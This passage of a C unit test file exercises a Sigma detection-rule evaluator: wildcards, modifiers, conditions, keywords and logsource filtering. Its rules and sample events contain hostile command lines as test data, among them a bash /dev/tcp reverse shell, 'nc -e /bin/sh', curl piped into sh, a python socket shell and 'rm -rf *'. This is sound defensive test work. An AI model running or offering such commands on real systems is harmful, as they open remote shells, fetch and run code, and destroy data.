@@ -1,0 +1,769 @@
+/* test_sigma — the Sigma evaluator: every modifier, condition form, wildcard
+ * and escape, null and keywords, case rules, logsource filtering, the skip
+ * reasons, malformed files inside a directory, the canonical-event mapping,
+ * and allocation failure during loading (no leak, clean error). */
+#include "testutil.h"
+
+#include <jansson.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "sigma.h"
+#include "util.h"
+
+/* ---- a tiny event: field/value pairs ------------------------------------- */
+
+typedef struct kv {
+    const char *k[16];
+    const char *v[16];
+    int n;
+} kv;
+
+static const char *kv_get(void *ctx, const char *f, size_t *len) {
+    kv *e = ctx;
+    for (int i = 0; i < e->n; i++)
+        if (!strcmp(e->k[i], f)) { *len = strlen(e->v[i]); return e->v[i]; }
+    return NULL;
+}
+
+/* Build a process_creation event on linux from "Field=value" strings. */
+static sigma_event_view view_of(kv *e, const char *const *pairs, int n) {
+    e->n = 0;
+    for (int i = 0; i < n; i++) {
+        const char *eq = strchr(pairs[i], '=');
+        static char keys[64][64];
+        static int next;
+        char *k = keys[next++ % 64];
+        snprintf(k, 64, "%.*s", (int)(eq - pairs[i]), pairs[i]);
+        e->k[e->n] = k;
+        e->v[e->n] = eq + 1;
+        e->n++;
+    }
+    sigma_event_view v = {kv_get, e, NULL, 0, "linux", "process_creation", NULL};
+    return v;
+}
+
+static const char *HEAD =
+    "title: t\nid: 11111111-2222-3333-4444-555555555555\nstatus: test\nlevel: high\n"
+    "tags:\n  - attack.execution\n  - attack.t1059.004\n"
+    "logsource:\n  product: linux\n  category: process_creation\n";
+
+/* Load HEAD + "detection:\n" + DET; assert exactly one rule loaded. */
+static sigma_rules *load_det(const char *det) {
+    char text[4096];
+    snprintf(text, sizeof text, "%sdetection:\n%s", HEAD, det);
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_non_null(rs);
+    int rc = sigma_load_text(rs, "t.yml", text, strlen(text));
+    if (rc != 1) {
+        for (int i = 0; i < sigma_skip_count(rs); i++)
+            fprintf(stderr, "skip: %s\n", sigma_skip_at(rs, i)->reason);
+        fail_msg("rule did not load (rc %d): %s", rc, det);
+    }
+    return rs;
+}
+
+/* Does the rule set hit an event made of PAIRS? */
+#define HITS(rs, ...) hits_of(rs, NULL, (const char *const[]){__VA_ARGS__}, \
+                              (int)(sizeof((const char *const[]){__VA_ARGS__}) / sizeof(char *)))
+static int hits_of(sigma_rules *rs, const char *raw, const char *const *pairs, int n) {
+    kv e;
+    sigma_event_view v = view_of(&e, pairs, n);
+    v.raw = raw;
+    v.raw_len = raw ? strlen(raw) : 0;
+    sigma_hit h[4];
+    return sigma_match(rs, &v, h, 4);
+}
+
+/* The skip reason a detection gives (asserting it is skipped). */
+static void expect_skip(const char *text, const char *needle) {
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_non_null(rs);
+    int rc = sigma_load_text(rs, "s.yml", text, strlen(text));
+    assert_true(rc == 0 || rc == NJ_EFORMAT);
+    assert_int_equal(sigma_rule_count(rs), 0);
+    assert_true(sigma_skip_count(rs) >= 1);
+    const char *why = sigma_skip_at(rs, 0)->reason;
+    if (!strstr(why, needle)) fail_msg("skip reason '%s' lacks '%s'", why, needle);
+    assert_string_equal(sigma_skip_at(rs, 0)->file, "s.yml");
+    sigma_rules_free(rs);
+}
+
+static void expect_det_skip(const char *det, const char *needle) {
+    char text[4096];
+    snprintf(text, sizeof text, "%sdetection:\n%s", HEAD, det);
+    expect_skip(text, needle);
+}
+
+/* ---- metadata ------------------------------------------------------------- */
+
+static void test_metadata(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    Image: /bin/sh\n  condition: sel\n");
+    const sigma_rule_info *r = sigma_rule(rs, 0);
+    assert_string_equal(r->title, "t");
+    assert_string_equal(r->id, "11111111-2222-3333-4444-555555555555");
+    assert_int_equal(r->level, SIGMA_HIGH);
+    assert_string_equal(sigma_level_name(r->level), "high");
+    assert_int_equal(r->n_techniques, 1);
+    assert_string_equal(r->techniques[0], "T1059.004");
+    assert_int_equal(r->n_tactics, 1);
+    assert_string_equal(r->tactics[0], "execution");
+    assert_string_equal(r->product, "linux");
+    assert_string_equal(r->category, "process_creation");
+    assert_string_equal(r->service, "");
+    kv e;
+    sigma_event_view v = view_of(&e, (const char *const[]){"Image=/bin/sh"}, 1);
+    sigma_hit h[2];
+    assert_int_equal(sigma_match(rs, &v, h, 2), 1);
+    assert_int_equal(h[0].rule, 0);
+    assert_string_equal(h[0].title, "t");
+    assert_int_equal(h[0].level, SIGMA_HIGH);
+    assert_int_equal(h[0].n_techniques, 1);
+    assert_string_equal(h[0].techniques[0], "T1059.004");
+    sigma_rules_free(rs);
+}
+
+/* ---- plain values, wildcards, escapes, case ----------------------------- */
+
+static void test_exact_and_case(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    Image: /usr/bin/Curl\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "Image=/usr/bin/curl"), 1);
+    assert_int_equal(HITS(rs, "Image=/USR/BIN/CURL"), 1);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/curl2"), 0);
+    assert_int_equal(HITS(rs, "Image=x/usr/bin/curl"), 0);
+    assert_int_equal(HITS(rs, "CommandLine=/usr/bin/curl"), 0);   /* other field */
+    assert_int_equal(HITS(rs, "Other=1"), 0);                     /* absent */
+    sigma_rules_free(rs);
+}
+
+static void test_wildcards(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    CommandLine: 'curl *http*|*sh'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=curl -s http://x/y | sh"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=CURL HTTP|SH"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=curl -s http://x/y | bash -x"), 0);   /* must end in sh */
+    assert_int_equal(HITS(rs, "CommandLine=wget curl http|sh"), 0);             /* must start with curl */
+    sigma_rules_free(rs);
+
+    /* '?' is exactly one character. */
+    rs = load_det("  sel:\n    Image: '/bin/?ash'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "Image=/bin/bash"), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/dash"), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/ash"), 0);
+    assert_int_equal(HITS(rs, "Image=/bin/bbash"), 0);
+    sigma_rules_free(rs);
+
+    /* Overlapping prefix and suffix must not share characters. */
+    rs = load_det("  sel:\n    CommandLine: 'ab*ba'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=aba"), 0);
+    assert_int_equal(HITS(rs, "CommandLine=abba"), 1);
+    sigma_rules_free(rs);
+}
+
+static void test_escapes(void **state) {
+    (void)state;
+    /* \* is a literal star; \? a literal question mark. */
+    sigma_rules *rs = load_det("  sel:\n    CommandLine: 'rm -rf \\*'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=rm -rf *"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=rm -rf /home"), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    CommandLine: 'what\\?'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=what?"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=whatx"), 0);
+    sigma_rules_free(rs);
+    /* \\* is a literal backslash followed by a wildcard. */
+    rs = load_det("  sel:\n    CommandLine: 'C:\\\\*'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=C:\\Windows"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=C:Windows"), 0);
+    sigma_rules_free(rs);
+    /* A backslash before anything else is itself. */
+    rs = load_det("  sel:\n    CommandLine|contains: '\\x41'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=echo -e \\x41"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=echo A"), 0);
+    sigma_rules_free(rs);
+}
+
+/* ---- modifiers ------------------------------------------------------------ */
+
+static void test_contains_starts_ends(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det(
+        "  a:\n    CommandLine|contains: '/dev/tcp/'\n"
+        "  b:\n    Image|endswith: '/nc'\n"
+        "  c:\n    CommandLine|startswith: 'python'\n"
+        "  condition: 1 of them\n");
+    assert_int_equal(HITS(rs, "CommandLine=bash -i >& /DEV/TCP/1.2.3.4/80 0>&1"), 1);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/nc"), 1);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/ncat"), 0);
+    assert_int_equal(HITS(rs, "CommandLine=Python3 -c x"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=/usr/bin/python3"), 0);
+    sigma_rules_free(rs);
+    /* Wildcards stay wildcards inside contains. */
+    rs = load_det("  sel:\n    CommandLine|contains: 'curl*|*sh'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=x; curl -s u | sh -"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=x; curl -s u > sh"), 0);
+    sigma_rules_free(rs);
+}
+
+static void test_lists_and_all(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    CommandLine|contains:\n      - ' -e '\n      - ' -c '\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=nc -e /bin/sh x 1"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=nc -c sh x 1"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=nc -l 1"), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    CommandLine|contains|all:\n      - 'socket'\n      - 'subprocess'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=python -c 'import socket,subprocess'"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=python -c 'import socket'"), 0);
+    sigma_rules_free(rs);
+    /* A list of maps is an OR of ANDs. */
+    rs = load_det("  sel:\n    - Image|endswith: /nc\n      CommandLine|contains: ' -e '\n"
+                  "    - Image|endswith: /socat\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "Image=/bin/nc", "CommandLine=nc -e sh"), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/nc", "CommandLine=nc -l"), 0);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/socat"), 1);
+    sigma_rules_free(rs);
+}
+
+static void test_re(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    CommandLine|re: '\\s-O\\s'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=wget -O /tmp/x"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=wget -o /tmp/x"), 0);     /* case-sensitive */
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    CommandLine|re|i: '\\s-O\\s'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=wget -o /tmp/x"), 1);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    CommandLine|re: '(?i)^CURL'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=curl x"), 1);
+    sigma_rules_free(rs);
+    /* m: ^ after newlines; s: dot matches newline. */
+    rs = load_det("  sel:\n    CommandLine|re|m: '^rm'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=echo\nrm -rf x"), 1);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    CommandLine|re: '^echo.rm'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=echo\nrm"), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    CommandLine|re|s: '^echo.rm'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=echo\nrm"), 1);
+    sigma_rules_free(rs);
+    /* Invalid UTF-8 in the event does not break matching. */
+    rs = load_det("  sel:\n    CommandLine|re: 'b.d'\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=a\xff" "bad"), 1);
+    sigma_rules_free(rs);
+}
+
+static void test_exists_null(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    ParentImage|exists: true\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "ParentImage=/bin/bash"), 1);
+    assert_int_equal(HITS(rs, "ParentImage="), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/bash"), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    ParentImage|exists: false\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "ParentImage=/bin/bash"), 0);
+    assert_int_equal(HITS(rs, "Image=/bin/bash"), 1);
+    sigma_rules_free(rs);
+    /* null: absent or empty. */
+    rs = load_det("  sel:\n    Image: /bin/sh\n    User: null\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "Image=/bin/sh"), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/sh", "User="), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/sh", "User=root"), 0);
+    sigma_rules_free(rs);
+    /* null in a value list is one alternative. */
+    rs = load_det("  sel:\n    User:\n      - root\n      - ~\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "User=root"), 1);
+    assert_int_equal(HITS(rs, "Image=x"), 1);
+    assert_int_equal(HITS(rs, "User=alice"), 0);
+    sigma_rules_free(rs);
+    /* Empty string: present and empty only. */
+    rs = load_det("  sel:\n    User: ''\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "User="), 1);
+    assert_int_equal(HITS(rs, "Image=x"), 0);
+    assert_int_equal(HITS(rs, "User=x"), 0);
+    sigma_rules_free(rs);
+}
+
+static void test_cidr(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
+                               "      - 192.168.1.0/25\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "DestinationIp=10.1.2.3"), 1);
+    assert_int_equal(HITS(rs, "DestinationIp=11.1.2.3"), 0);
+    assert_int_equal(HITS(rs, "DestinationIp=fd12::1"), 1);
+    assert_int_equal(HITS(rs, "DestinationIp=fe80::1"), 0);
+    assert_int_equal(HITS(rs, "DestinationIp=192.168.1.127"), 1);
+    assert_int_equal(HITS(rs, "DestinationIp=192.168.1.128"), 0);
+    assert_int_equal(HITS(rs, "DestinationIp=not-an-ip"), 0);
+    sigma_rules_free(rs);
+    expect_det_skip("  sel:\n    DestinationIp|cidr: 10.0.0.0/33\n  condition: sel\n", "bad cidr");
+}
+
+static void test_windash(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=x -enc y"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=x /enc y"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=x \xe2\x80\x93" "enc y"), 1);   /* en dash */
+    assert_int_equal(HITS(rs, "CommandLine=x +enc y"), 0);
+    sigma_rules_free(rs);
+}
+
+static void test_base64(void **state) {
+    (void)state;
+    /* base64("/bin/bash") = L2Jpbi9iYXNo */
+    sigma_rules *rs = load_det("  sel:\n    CommandLine|base64|contains: /bin/bash\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=echo L2Jpbi9iYXNo | base64 -d"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=echo l2jpbi9iyxno"), 0);        /* base64 is case-sensitive */
+    sigma_rules_free(rs);
+    /* base64offset: the value at any of the three alignments inside a
+     * longer encoded text.  "x/bin/sh" -> eC9iaW4vc2g=, "xy/bin/sh" ->
+     * eHkvYmluL3No, "/bin/sh" -> L2Jpbi9zaA==. */
+    rs = load_det("  sel:\n    CommandLine|base64offset|contains: /bin/sh\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=echo L2Jpbi9zaA== | base64 -d"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=echo eC9iaW4vc2g= | base64 -d"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=echo eHkvYmluL3No | base64 -d"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=echo aGVsbG8gd29ybGQ="), 0);
+    sigma_rules_free(rs);
+    expect_det_skip("  sel:\n    CommandLine|base64offset: /bin/sh\n  condition: sel\n", "base64offset without contains");
+}
+
+static void test_numeric_fieldref_cased(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det("  sel:\n    DestinationPort|gte: 1024\n    DestinationPort|lt: 5000\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "DestinationPort=4444"), 1);
+    assert_int_equal(HITS(rs, "DestinationPort=1024"), 1);
+    assert_int_equal(HITS(rs, "DestinationPort=5000"), 0);
+    assert_int_equal(HITS(rs, "DestinationPort=80"), 0);
+    assert_int_equal(HITS(rs, "DestinationPort=http"), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    SourcePort|gt: 10\n    DestinationPort|lte: 10\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "SourcePort=11", "DestinationPort=10"), 1);
+    assert_int_equal(HITS(rs, "SourcePort=10", "DestinationPort=10"), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    ParentImage|fieldref: Image\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "Image=/bin/sh", "ParentImage=/BIN/SH"), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/sh", "ParentImage=/bin/bash"), 0);
+    assert_int_equal(HITS(rs, "ParentImage=/bin/sh"), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  sel:\n    CommandLine|cased|contains: ' -O '\n  condition: sel\n");
+    assert_int_equal(HITS(rs, "CommandLine=wget -O x"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=wget -o x"), 0);
+    sigma_rules_free(rs);
+}
+
+/* ---- conditions ------------------------------------------------------------ */
+
+static void test_conditions(void **state) {
+    (void)state;
+    const char *sels = "  sel_a:\n    CommandLine|contains: aaa\n"
+                       "  sel_b:\n    CommandLine|contains: bbb\n"
+                       "  filter:\n    CommandLine|contains: fff\n";
+    struct { const char *cond; int a, b, ab, abf, none, f; } cases[] = {
+        /*                         a  b  ab abf none f */
+        {"sel_a and sel_b",        0, 0, 1, 1, 0, 0},
+        {"sel_a or sel_b",         1, 1, 1, 1, 0, 0},
+        {"sel_a and not filter",   1, 0, 1, 0, 0, 0},
+        {"(sel_a or sel_b) and not filter", 1, 1, 1, 0, 0, 0},
+        {"not (sel_a or sel_b)",   0, 0, 0, 0, 1, 1},
+        {"1 of sel_*",             1, 1, 1, 1, 0, 0},
+        {"all of sel_*",           0, 0, 1, 1, 0, 0},
+        {"1 of them",              1, 1, 1, 1, 0, 1},
+        {"all of them",            0, 0, 0, 1, 0, 0},
+        {"2 of them",              0, 0, 1, 1, 0, 0},
+        {"1 of sel_* and not 1 of filter*", 1, 1, 1, 0, 0, 0},
+        {"sel_a or sel_b and filter", 1, 0, 1, 1, 0, 0},   /* and binds tighter */
+        {"not sel_a and sel_b",    0, 1, 0, 0, 0, 0},      /* not binds tightest */
+    };
+    for (size_t i = 0; i < NJ_ARRAY_LEN(cases); i++) {
+        char det[1024];
+        snprintf(det, sizeof det, "%s  condition: %s\n", sels, cases[i].cond);
+        sigma_rules *rs = load_det(det);
+        const char *msg = cases[i].cond;
+        if (HITS(rs, "CommandLine=aaa") != cases[i].a) fail_msg("%s: a", msg);
+        if (HITS(rs, "CommandLine=bbb") != cases[i].b) fail_msg("%s: b", msg);
+        if (HITS(rs, "CommandLine=aaa bbb") != cases[i].ab) fail_msg("%s: ab", msg);
+        if (HITS(rs, "CommandLine=aaa bbb fff") != cases[i].abf) fail_msg("%s: abf", msg);
+        if (HITS(rs, "CommandLine=zzz") != cases[i].none) fail_msg("%s: none", msg);
+        if (HITS(rs, "CommandLine=fff") != cases[i].f) fail_msg("%s: f", msg);
+        sigma_rules_free(rs);
+    }
+    /* A condition list is an OR. */
+    char det[1024];
+    snprintf(det, sizeof det, "%s  condition:\n    - sel_a and filter\n    - sel_b\n", sels);
+    sigma_rules *rs = load_det(det);
+    assert_int_equal(HITS(rs, "CommandLine=aaa"), 0);
+    assert_int_equal(HITS(rs, "CommandLine=aaa fff"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=bbb"), 1);
+    sigma_rules_free(rs);
+    /* 'them' leaves out names starting with '_'. */
+    rs = load_det("  a:\n    CommandLine: x\n  _helper:\n    CommandLine: y\n  condition: all of them\n");
+    assert_int_equal(HITS(rs, "CommandLine=x"), 1);
+    sigma_rules_free(rs);
+}
+
+static void test_keywords(void **state) {
+    (void)state;
+    char text[1024];
+    snprintf(text, sizeof text,
+             "title: kw\nlogsource:\n  product: linux\n  service: sshd\n"
+             "detection:\n  keywords:\n    - 'Failed password'\n    - 'error: maximum * exceeded'\n"
+             "  condition: keywords\n");
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_int_equal(sigma_load_text(rs, "kw.yml", text, strlen(text)), 1);
+    kv e = {.n = 0};
+    sigma_event_view v = {kv_get, &e, NULL, 0, "linux", NULL, "sshd"};
+    const char *raw = "Dec 10 sshd[1]: FAILED PASSWORD for root from 1.2.3.4";
+    v.raw = raw;
+    v.raw_len = strlen(raw);
+    assert_int_equal(sigma_match(rs, &v, NULL, 0), 1);
+    raw = "sshd[1]: error: maximum authentication attempts exceeded for root";
+    v.raw = raw;
+    v.raw_len = strlen(raw);
+    assert_int_equal(sigma_match(rs, &v, NULL, 0), 1);
+    raw = "sshd[1]: Accepted publickey for root";
+    v.raw = raw;
+    v.raw_len = strlen(raw);
+    assert_int_equal(sigma_match(rs, &v, NULL, 0), 0);
+    v.raw = NULL;
+    v.raw_len = 0;
+    assert_int_equal(sigma_match(rs, &v, NULL, 0), 0);
+    sigma_rules_free(rs);
+
+    /* Keywords with |all, and a single keyword scalar. */
+    rs = load_det("  kw:\n    '|all':\n      - foo\n      - bar\n  condition: kw\n");
+    assert_int_equal(hits_of(rs, "x FOO y bar", (const char *const[]){"A=b"}, 1), 1);
+    assert_int_equal(hits_of(rs, "x foo y", (const char *const[]){"A=b"}, 1), 0);
+    sigma_rules_free(rs);
+    rs = load_det("  kw: 'needle'\n  condition: kw\n");
+    assert_int_equal(hits_of(rs, "hay needle hay", (const char *const[]){"A=b"}, 1), 1);
+    assert_int_equal(hits_of(rs, "hay", (const char *const[]){"A=b"}, 1), 0);
+    sigma_rules_free(rs);
+}
+
+/* ---- logsource ------------------------------------------------------------- */
+
+static void test_logsource(void **state) {
+    (void)state;
+    const char *text =
+        "title: lin\nlogsource:\n  product: linux\n  category: process_creation\n"
+        "detection:\n  s:\n    Image|endswith: /x\n  condition: s\n"
+        "---\n"
+        "title: mac\nlogsource:\n  product: macos\n  category: process_creation\n"
+        "detection:\n  s:\n    Image|endswith: /x\n  condition: s\n"
+        "---\n"
+        "title: aud\nlogsource:\n  product: linux\n  service: auditd\n"
+        "detection:\n  s:\n    exe|endswith: /x\n  condition: s\n"
+        "---\n"
+        "title: net\nlogsource:\n  category: network_connection\n  product: linux\n"
+        "detection:\n  s:\n    Image|endswith: /x\n  condition: s\n";
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_int_equal(sigma_load_text(rs, "ls.yml", text, strlen(text)), 4);
+    kv e;
+    sigma_event_view v = view_of(&e, (const char *const[]){"Image=/bin/x", "exe=/bin/x"}, 2);
+    sigma_hit h[8];
+    v.product = "linux";
+    assert_int_equal(sigma_match(rs, &v, h, 8), 1);
+    assert_string_equal(h[0].title, "lin");
+    v.product = "macos";
+    assert_int_equal(sigma_match(rs, &v, h, 8), 1);
+    assert_string_equal(h[0].title, "mac");
+    v.product = NULL;                                    /* unknown OS: both */
+    assert_int_equal(sigma_match(rs, &v, h, 8), 2);
+    assert_true(h[0].rule < h[1].rule);
+    v.product = "linux";
+    v.service = "auditd";                                /* auditd exec: both kinds */
+    assert_int_equal(sigma_match(rs, &v, h, 8), 2);
+    assert_string_equal(h[0].title, "lin");
+    assert_string_equal(h[1].title, "aud");
+    v.category = "network_connection";
+    v.service = NULL;
+    assert_int_equal(sigma_match(rs, &v, h, 8), 1);
+    assert_string_equal(h[0].title, "net");
+    /* max limits what is written, not what is counted. */
+    v.category = "process_creation";
+    v.product = NULL;
+    assert_int_equal(sigma_match(rs, &v, h, 1), 2);
+    sigma_rules_free(rs);
+}
+
+/* ---- skips ------------------------------------------------------------------- */
+
+static void test_skip_reasons(void **state) {
+    (void)state;
+    expect_det_skip("  s:\n    CommandLine|utf16le|contains: x\n  condition: s\n", "unsupported modifier 'utf16le'");
+    expect_det_skip("  s:\n    CommandLine|expand: '%x%'\n  condition: s\n", "unsupported modifier 'expand'");
+    expect_det_skip("  s:\n    Image: x\n  condition: s | count() by Image > 5\n", "'|' aggregation");
+    expect_det_skip("  s:\n    Image: x\n  condition: s and t\n", "unknown selection 't'");
+    expect_det_skip("  s:\n    Image: x\n  condition: 1 of z*\n", "matches no selection");
+    expect_det_skip("  s:\n    Image: x\n  condition: s and\n", "condition");
+    expect_det_skip("  s:\n    Image: x\n  condition: (s\n", "missing ')'");
+    expect_det_skip("  s:\n    Image: x\n  timeframe: 5m\n  condition: s\n", "timeframe");
+    expect_det_skip("  s:\n    CommandLine|re: '(unclosed'\n  condition: s\n", "regular expression");
+    expect_det_skip("  s:\n    CommandLine|re|contains: x\n  condition: s\n", "combination");
+    expect_det_skip("  s:\n    Image: x\n", "no condition");
+    expect_det_skip("  s:\n    Image: []\n  condition: s\n", "empty value list");
+    expect_det_skip("  s:\n    Image|exists: maybe\n  condition: s\n", "exists needs true or false");
+    expect_skip("title: w\nlogsource:\n  product: windows\n  category: process_creation\n"
+                "detection:\n  s:\n    Image: x\n  condition: s\n", "unknown logsource product 'windows'");
+    expect_skip("title: w\nlogsource:\n  product: linux\n  service: clamav\n"
+                "detection:\n  s:\n    Image: x\n  condition: s\n", "unknown logsource service 'clamav'");
+    expect_skip("title: w\nlevel: severe\nlogsource:\n  product: linux\n"
+                "detection:\n  s:\n    Image: x\n  condition: s\n", "unknown level");
+    expect_skip("logsource:\n  product: linux\ndetection:\n  s:\n    Image: x\n  condition: s\n", "no title");
+    expect_skip("action: global\ntitle: g\nlogsource:\n  product: linux\n---\ndetection:\n  s: x\n  condition: s\n",
+                "action: global");
+    expect_skip("title: c\ncorrelation:\n  type: event_count\n", "correlation");
+    expect_skip("title: [unclosed\n", "YAML error at line");
+    expect_skip("", "empty file");
+}
+
+/* A malformed file says where, and does not stop the directory. */
+static void test_dir_load(void **state) {
+    (void)state;
+    const char *dir = nj_test_tmpdir();
+    assert_non_null(dir);
+    char p[600], sub[600];
+    snprintf(sub, sizeof sub, "%s/sub", dir);
+    assert_int_equal(mkdir(sub, 0700), 0);
+    struct { const char *name, *text; } files[] = {
+        {"a_good.yml", "title: good\nlogsource:\n  product: linux\ndetection:\n  s:\n    Image: x\n  condition: s\n"},
+        {"b_bad.yml", "title: bad\ndetection:\n  s: [unclosed\n  condition: s\n"},
+        {"sub/c_good.yaml", "title: good2\nlogsource:\n  product: macos\ndetection:\n  s:\n    Image: y\n  condition: s\n"},
+        {"sub/notes.txt", "not a rule"},
+        {".hidden.yml", "title: [broken"},
+    };
+    for (size_t i = 0; i < NJ_ARRAY_LEN(files); i++) {
+        snprintf(p, sizeof p, "%s/%s", dir, files[i].name);
+        FILE *f = fopen(p, "w");
+        assert_non_null(f);
+        fputs(files[i].text, f);
+        fclose(f);
+    }
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_int_equal(sigma_load_path(rs, dir), 2);
+    assert_int_equal(sigma_rule_count(rs), 2);
+    assert_string_equal(sigma_rule(rs, 0)->title, "good");
+    assert_string_equal(sigma_rule(rs, 1)->title, "good2");
+    assert_int_equal(sigma_skip_count(rs), 1);
+    assert_non_null(strstr(sigma_skip_at(rs, 0)->file, "b_bad.yml"));
+    assert_non_null(strstr(sigma_skip_at(rs, 0)->reason, "YAML error at line 4"));
+    /* The same file named alone is an error with the sentence. */
+    snprintf(p, sizeof p, "%s/b_bad.yml", dir);
+    assert_int_equal(sigma_load_path(rs, p), NJ_EFORMAT);
+    assert_non_null(strstr(nj_last_error(), "YAML error"));
+    snprintf(p, sizeof p, "%s/missing", dir);
+    assert_int_equal(sigma_load_path(rs, p), -ENOENT);
+    sigma_rules_free(rs);
+    for (size_t i = 0; i < NJ_ARRAY_LEN(files); i++) {
+        snprintf(p, sizeof p, "%s/%s", dir, files[i].name);
+        unlink(p);
+    }
+    rmdir(sub);
+    rmdir(dir);
+}
+
+/* ---- canonical events --------------------------------------------------- */
+
+static void test_canonical_event(void **state) {
+    (void)state;
+    const char *text =
+        "title: pc\nlogsource:\n  product: linux\n  category: process_creation\n"
+        "detection:\n  s:\n    Image|endswith: /curl\n    CommandLine|contains: '| sh'\n"
+        "    ParentImage: /bin/bash\n    User: alice\n    LogonId: 1000\n    ProcessId: 4242\n"
+        "    ParentProcessId: 4000\n    CurrentDirectory: /home/alice\n  condition: s\n"
+        "---\n"
+        "title: aud\nlogsource:\n  product: linux\n  service: auditd\n"
+        "detection:\n  s:\n    type: EXECVE\n    a0: curl\n    a1: -s\n    comm: curl\n    exe: /usr/bin/curl\n"
+        "    key: exec_watch\n    uid: 0\n    auid: 1000\n  condition: s\n"
+        "---\n"
+        "title: net\nlogsource:\n  product: linux\n  category: network_connection\n"
+        "detection:\n  s:\n    DestinationPort: 4444\n    DestinationIp|cidr: 203.0.113.0/24\n    Initiated: 'true'\n"
+        "    SourcePort: 50000\n  condition: s\n"
+        "---\n"
+        "title: file\nlogsource:\n  product: linux\n  category: file_event\n"
+        "detection:\n  s:\n    TargetFilename|startswith: /etc/cron.d/\n  condition: s\n";
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_int_equal(sigma_load_text(rs, "ev.yml", text, strlen(text)), 4);
+    json_error_t je;
+    json_t *ev = json_loads(
